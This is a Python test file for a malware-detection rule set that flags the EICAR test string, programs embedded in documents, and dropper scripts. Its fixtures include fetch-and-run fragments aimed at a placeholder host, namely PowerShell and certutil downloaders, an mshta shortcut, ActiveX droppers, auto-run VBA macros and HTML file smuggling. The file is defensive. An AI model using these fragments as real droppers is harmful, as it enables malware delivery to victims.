import base64
import os
import threading
import time

import pytest

from gatepost.adapters.inspection.embedded_rules import (
    NAMES,
    OWN,
    BadRules,
    EmbeddedRules,
    TooSlow,
    rule_files,
    signature,
)

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"  # in two: this file is harmless
STUB = b"This program cannot be run in DOS" + b" mode"
PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00" + b"\xff\xff" + b"\0" * 60 + STUB + b"\0" * 200
OLE = bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 500
ONENOTE = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + b"\0" * 100
ONENOTE_FILE = bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac") + b"\0" * 20
LNK = bytes.fromhex("4c0000000114020000000000c000000000000046") + b"\0" * 56
ENCODED = base64.b64encode(os.urandom(120)).decode()


@pytest.fixture(scope="module")
def own():
    return EmbeddedRules()


def named(*words):
    """Put together at run time, so that no scanner takes this file for what it speaks of."""
    return " ".join(words).encode()


# ── EICAR ────────────────────────────────────────────────────────────────────
@pytest.mark.parametrize("behind", [b"", b"\r\n", b"\n", b" ", b"\t\x1a", b" " * 60])
def test_the_test_file_is_found_with_white_space_behind_it(own, behind):
    assert own.matches(EICAR + behind) == ("Eicar_Test_File",)


@pytest.mark.parametrize(
    "octets",
    [
        EICAR[:-1],
        b" " + EICAR,
        EICAR + b"x",
        EICAR + b" " * 61,
        EICAR.lower(),
        b"The test file is " + EICAR,
        EICAR + b"\r\n" + b"is what the test file looks like, says the handbook. " * 3,
    ],
)
def test_what_only_speaks_of_it_is_not(own, octets):
    assert own.matches(octets) == ()


@pytest.mark.parametrize("start", [b"PK\x03\x04", b"%PDF-1.4", b"{\\rtf1 ", OLE, b"MZ", b"7z\xbc\xaf"])
def test_a_small_container_that_holds_it_as_it_is_is_found(own, start):
    assert own.matches(start + b"\n" + EICAR + b"\n") == ("Eicar_In_Carrier",)


# ── programs in documents ────────────────────────────────────────────────────
@pytest.mark.parametrize(
    "inside",
    [
        ONENOTE_FILE + PE,
        ONENOTE_FILE + LNK,
        ONENOTE_FILE + b"<HTML><hta:application id=x>",
        ONENOTE_FILE + named("@ECHO OFF\r\nstart", "powershell x"),
    ],
)
def test_a_program_in_a_notebook_is_found(own, inside):
    assert "OneNote_With_Program" in own.matches(ONENOTE + inside)


def test_a_picture_in_a_notebook_is_not(own):
    assert own.matches(ONENOTE + ONENOTE_FILE + b"\x89PNG\r\n\x1a\n" + os.urandom(2000)) == ()


def test_a_program_in_rtf_is_found(own):
    data = b"{\\rtf1{\\object\\objemb{\\*\\objdata 01050000" + PE.hex().encode() + b"}}}"
    assert own.matches(data) == ("Rtf_With_Program",)


def test_a_package_with_a_script_in_rtf_is_found(own):
    package = (b"Package\0" + b"\0" * 8 + b"invoice.js\0").hex().encode()
    assert own.matches(b"{\\rtf1{\\object{\\*\\objdata " + package + b"}}}") == ("Rtf_With_Program",)


def test_a_picture_in_rtf_is_not(own):
    assert own.matches(b"{\\rtf1{\\object{\\*\\objdata " + os.urandom(3000).hex().encode() + b"}}}") == ()


def test_a_program_in_an_ole_package_is_found(own):
    native = "\x01Ole10Native".encode("utf-16-le")
    assert own.matches(OLE + native + b"\0" * 100 + PE) == ("Ole_Package_With_Program",)


def test_an_installer_is_none(own):
    assert own.matches(OLE + b"\0" * 100 + PE) == ()


def test_a_pdf_that_starts_a_program_in_it_is_found(own):
    assert own.matches(b"%PDF-1.7\n/S /Launch\n" + PE) == ("Pdf_With_Program",)


# ── scripts ──────────────────────────────────────────────────────────────────
SHELL = "WScript" + ".Shell"
STREAM = "ADODB" + ".Stream"
HTTP = "MSXML2" + ".XMLHTTP"
POWERSHELL = "power" + "shell"
MZ = "TVqQAAMAAAAEAAAA" + "//8AALgAAAAA"


@pytest.mark.parametrize(
    ("octets", "rule"),
    [
        (named(f"$b=[Convert]::FromBase64String('{MZ}'); Start-Process x.exe"), "Script_With_Program"),
        (named(f"echo {MZ} > %TEMP%\\a.b64\r\ncertutil -decode %TEMP%\\a.b64 %TEMP%\\a.exe"), "Script_With_Program"),
        (LNK + f"{POWERSHELL}.exe -enc AAAA".encode("utf-16-le"), "Shortcut_Runs_Script"),
        (LNK + "C:\\Windows\\System32\\mshta.exe https://x.example/a.hta".encode("utf-16-le"), "Shortcut_Runs_Script"),
        (LNK + f"cmd.exe /c {POWERSHELL} -w hidden iwr http://x.example".encode(), "Shortcut_Runs_Script"),
        (
            named(f'<HTA:APPLICATION id="a"><script>new ActiveXObject("{SHELL}").Run("{POWERSHELL} x")</script>'),
            "Hta_Dropper",
        ),
        (
            named(
                f'var s=new ActiveXObject("{SHELL}"), h=new ActiveXObject("{HTTP}"), a=new ActiveXObject("{STREAM}");',
                'h.open("GET","http://x.example/a.exe",0);h.send();a.Write(h.responseBody);a.SaveToFile("a.exe");',
                's.Run("a.exe")',
            ),
            "Script_Dropper",
        ),
        (
            named(f'Set s = CreateObject("{SHELL}"): s.Run "{POWERSHELL} -nop -w hidden -enc {ENCODED}"'),
            "Script_Starts_Encoded_Powershell",
        ),
        (
            named(
                f"@echo off\r\n{POWERSHELL} -w hidden -c (New-Object Net.WebClient).DownloadFile('http://x.example/a',",
                "'%TEMP%\\a.exe')\r\nstart %TEMP%\\a.exe\r\n",
            ),
            "Batch_Dropper",
        ),
        (
            named("@ECHO OFF\r\ncertutil.exe -urlcache -f http://x.example/a %temp%\\a.exe & %temp%\\a.exe"),
            "Batch_Dropper",
        ),
    ],
)
def test_a_script_that_fetches_and_starts_is_found(own, octets, rule):
    assert rule in own.matches(octets)


@pytest.mark.parametrize(
    "octets",
    [
        b"@echo off\r\nset PATH=%PATH%;C:\\tools\r\nstart notepad.exe readme.txt\r\n",
        named("@echo off\r\n", POWERSHELL, "-ExecutionPolicy Bypass -File build.ps1\r\n"),
        named("$client = New-Object Net.WebClient; $client.DownloadString('http://x.example/status')"),
        named(f'Set s = CreateObject("{SHELL}"): MsgBox s.SpecialFolders("Desktop")'),
        named(f"var f = new ActiveXObject('{HTTP}'); // for old browsers"),
        named("Hello, the script uses", SHELL, "and", STREAM, "to save files; see CreateObject in the manual."),
        LNK + "C:\\Users\\Public\\Documents\\report.docx".encode("utf-16-le"),
        LNK + "C:\\Windows\\System32\\cmd.exe".encode("utf-16-le"),
        MZ.encode(),
    ],
)
def test_what_honest_people_write_is_not(own, octets):
    assert own.matches(octets) == ()


# ── macros, pages ────────────────────────────────────────────────────────────
@pytest.mark.parametrize(
    "body",
    [
        f'Sub AutoOpen()\r\nShell "{POWERSHELL} x"\r\nEnd Sub',
        f'Private Sub Document_Open()\r\nCreateObject("{SHELL}").Run "cmd /c x"\r\nEnd Sub',
        'Declare Function U Lib "urlmon" Alias "URLDownload' + 'ToFileA" ()\r\nSub Auto_Open()\r\nEnd Sub',
        f'Sub Workbook_Open()\r\nSet a=CreateObject("{HTTP}"): Set b=CreateObject("{STREAM}")\r\nEnd Sub',
    ],
)
def test_a_macro_that_runs_by_itself_and_fetches_is_found(own, body):
    assert own.matches(b'Attribute VB_Name = "Module1"\r\n' + body.encode()) == ("Vba_Dropper",)


@pytest.mark.parametrize(
    "body",
    [
        'Sub Workbook_Open()\r\nSheets("Start").Select\r\nEnd Sub',
        f'Sub Workbook_Open()\r\nMsgBox CreateObject("{SHELL}").SpecialFolders("Desktop")\r\nEnd Sub',
        f'Sub Export()\r\nCreateObject("{SHELL}").Run "cmd /c x"\r\nEnd Sub',
    ],
)
def test_a_macro_that_does_not_is_not(own, body):
    assert own.matches(b'Attribute VB_Name = "Module1"\r\n' + body.encode()) == ()


def page(data, *, saves=True):
    save = "a.href=URL.createObjectURL(b);a.download='invoice.zip';a.click()" if saves else "draw(b)"
    return f"<html><script>var d=atob('{data}');var b=new Blob([d]);{save};</script>".encode()


@pytest.mark.parametrize(
    "start", [b"PK\x03\x04" + bytes(60), PE, b"Rar!\x1a\x07" + bytes(60), b"7z\xbc\xaf\x27\x1c" + bytes(60)]
)
def test_a_page_that_builds_a_file_of_itself_is_found(own, start):
    assert own.matches(page(base64.b64encode(start).decode())) == ("Html_Smuggles_File",)


def test_a_page_with_a_picture_or_without_a_download_is_not(own):
    assert own.matches(page(base64.b64encode(b"\x89PNG" + bytes(60)).decode())) == ()
    assert own.matches(page(base64.b64encode(b"PK\x03\x04" + bytes(60)).decode(), saves=False)) == ()


# ── limits ───────────────────────────────────────────────────────────────────
def test_nothing_is_in_nothing(own):
    assert own.matches(b"") == ()


@pytest.mark.parametrize(
    "octets", [b"powershell -e" * 100_000, b"@echo off certutil " * 50_000, b"\0" * 5_000_000, b"TV" * 10**6]
)
def test_what_looks_like_the_patterns_is_no_burden(own, octets):
    begun = time.process_time()
    own.matches(octets)
    assert time.process_time() - begun < 3


def test_our_rules_are_few_and_named_once():
    texts = [file.read_text() for file in rule_files((OWN,))]
    names = [line.split()[1] for text in texts for line in text.splitlines() if line.startswith("rule ")]
    assert 10 < len(names) == len(set(names)) < 40


# ── the operator's ───────────────────────────────────────────────────────────
RULE = 'rule {name} {{ strings: $a = "{text}" condition: $a }}\n'


@pytest.fixture
def directory(tmp_path):
    (tmp_path / "one.yar").write_text(RULE.format(name="Own_One", text="blue"))
    (tmp_path / "two.yara").write_text(
        RULE.format(name="Own_Two", text="blue") + RULE.format(name="Own_One", text="red")
    )
    (tmp_path / "readme.txt").write_text("no rules")
    (tmp_path / "below").mkdir()
    return tmp_path


def test_rules_of_the_operator_match_beside_ours(directory):
    both = EmbeddedRules((directory,))
    assert both.matches(b"a blue thing") == ("Own_One", "Own_Two")
    assert both.matches(EICAR) == ("Eicar_Test_File",)


def test_a_rule_may_have_the_name_of_one_in_another_file(directory):
    assert EmbeddedRules((directory,)).matches(b"blue red") == ("Own_One", "Own_Two")


@pytest.mark.parametrize(
    ("text", "line"),
    [
        (b"rule A { condition: true }\nrule B {\n condition: nothing }\n", 3),
        (b"rule A { condition: true }\n\nrule A { condition: true }\n", 3),
        (b"\nrule A { strings: $a = /(/ condition: $a }", 2),
        (b"rule A { condition: true } // \xff", 1),
        (b'include "/etc/passwd"\n', 1),
    ],
)
def test_a_mistake_is_told_by_file_and_line(directory, text, line):
    wrong = directory / "wrong.yar"
    wrong.write_bytes(text)
    with pytest.raises(BadRules) as told:
        EmbeddedRules((directory,))
    assert str(told.value).startswith(f"{wrong}:{line}: ")
    assert "\n" not in str(told.value)


def test_a_directory_that_is_not_there_is_told(tmp_path):
    with pytest.raises(FileNotFoundError):
        EmbeddedRules((tmp_path / "none",))


def test_no_more_names_are_told_than_there_is_room(tmp_path):
    (tmp_path / "many.yar").write_text("".join(RULE.format(name=f"R{i}", text="blue") for i in range(100)))
    assert len(EmbeddedRules((tmp_path,)).matches(b"blue")) == NAMES


def test_a_rule_that_takes_too_long_is_no_answer(tmp_path, monkeypatch):
    monkeypatch.setattr("gatepost.adapters.inspection.embedded_rules.SECONDS", 1)
    loop = "for all {0} in (0..filesize - 1) : (".format
    slow = f"rule Slow {{ condition: {loop('i')}{loop('j')}uint8(i) + uint8(j) < 999)) }}"
    (tmp_path / "slow.yar").write_text(slow)
    with pytest.raises(TooSlow):
        EmbeddedRules((tmp_path,)).matches(bytes(1_000_000))


def test_a_change_is_seen_by_the_signature(directory):
    before = signature((directory,))
    assert signature((directory,)) == before
    (directory / "readme.txt").write_text("more")
    assert signature((directory,)) == before
    (directory / "one.yar").write_text(RULE.format(name="Own_One", text="green"))
    changed = signature((directory,))
    (directory / "three.yar").write_text("")
    assert len({before, changed, signature((directory,))}) == 3


@pytest.mark.filterwarnings("error")
def test_once_closed_any_thread_may_free_them_and_they_can_be_used_again():
    rules = EmbeddedRules()
    assert rules.matches(EICAR)
    rules.close()
    found = []
    thread = threading.Thread(target=lambda: found.append(rules.matches(EICAR)) or rules.close())
    thread.start()
    thread.join()
    assert found == [("Eicar_Test_File",)]


def test_it_works_in_another_thread(own):
    found = []
    thread = threading.Thread(target=lambda: found.append(EmbeddedRules().matches(EICAR)))
    thread.start()
    thread.join()
    assert found == [("Eicar_Test_File",)]
